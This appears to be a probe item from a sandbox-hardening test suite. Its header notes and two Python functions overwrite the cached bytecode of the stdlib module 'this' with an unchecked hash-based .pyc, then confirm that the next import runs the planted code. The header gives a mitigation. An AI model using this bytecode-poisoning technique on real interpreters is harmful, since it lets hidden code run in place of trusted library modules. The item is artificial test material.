# title: Leave changed bytecode behind
# tries: One execution replaces the compiled form of a module of the library, the next one imports the module. Sources are checked more often than what is really run.
# impact: Integrity
# proof: returned
# host: never, it would change the library of the machine's interpreter
# advice: Mount the interpreter as read-only, or start it with its bytecode checked by hash.


def plant(host):
    import importlib.util
    import marshal

    name = "this"
    source = importlib.util.find_spec(name).origin
    # Flag 1 without the check bit: bytecode that belongs to a hash of its source which nobody compares.
    header = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8)
    code = marshal.dumps(compile(f"left = {host['mark']!r}", source, "exec"))
    with open(importlib.util.cache_from_source(source), "wb") as file:
        file.write(header + code)
    return "replaced"


def attempt(host):
    import contextlib
    import importlib
    import io

    with contextlib.redirect_stdout(io.StringIO()):
        module = importlib.import_module("this")
    return "the changed bytecode ran" if getattr(module, "left", None) == host["mark"] else None
